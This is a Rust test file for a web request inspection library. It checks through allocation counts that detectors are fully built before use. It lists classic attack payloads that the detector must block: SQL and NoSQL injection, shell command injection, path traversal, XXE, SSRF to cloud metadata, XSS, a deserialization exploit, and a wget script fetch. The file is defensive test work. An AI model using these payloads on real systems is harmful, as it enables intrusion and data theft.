//! `prepare()` builds what the detectors would build on first use: after it, inspecting
//! one attack of every class allocates a fraction of what preparing did (building the
//! keyword automaton and compiling the patterns allocate thousands of times; a pattern
//! `prepare` forgot would be compiled during the inspection and show up here). Counted
//! with a global allocator wrapper, so the figures are deterministic. One test in its own
//! process: nothing else may build the statics first.

use counting::allocations;
use perimeter_shield::{Config, Verdict, inspect_value, prepare};

#[path = "support/counting.rs"]
mod counting;

#[test]
fn prepare_builds_what_inspections_would() {
    let built = allocations(prepare);
    assert!(built > 2_000, "prepare allocated only {built} times");
    // Again: nothing is rebuilt (the tokenizer's warm-up call allocates a few times).
    let again = allocations(prepare);
    assert!(again < 50, "a second prepare allocated {again} times");

    let attacks = [
        "1' OR '1'='1' --",
        "{\"$where\": \"sleep(100)\"}",
        "; cat /etc/passwd",
        "$(whoami)",
        "require('child_process').exec('id')",
        "{{7*7}}",
        "../../../../etc/passwd",
        "http://169.254.169.254/latest/meta-data/",
        "<!DOCTYPE x [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><x>&xxe;</x>",
        "<script>alert(1)</script>",
        "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()",
        "user@host:~$ wget http://x/a.sh",
    ];
    let cfg = Config::default();
    let mut blocked = 0;
    let inspected = allocations(|| {
        for a in attacks {
            let dets = inspect_value(a, &cfg);
            if perimeter_shield::verdict_of(&dets, &cfg) == Verdict::Block {
                blocked += 1;
            }
        }
    });
    assert_eq!(blocked, attacks.len(), "every sample is an attack");
    assert!(
        inspected * 4 < built,
        "inspecting {} attacks after prepare allocated {inspected} times (prepare: {built}): \
         something was built on first use",
        attacks.len()
    );
}
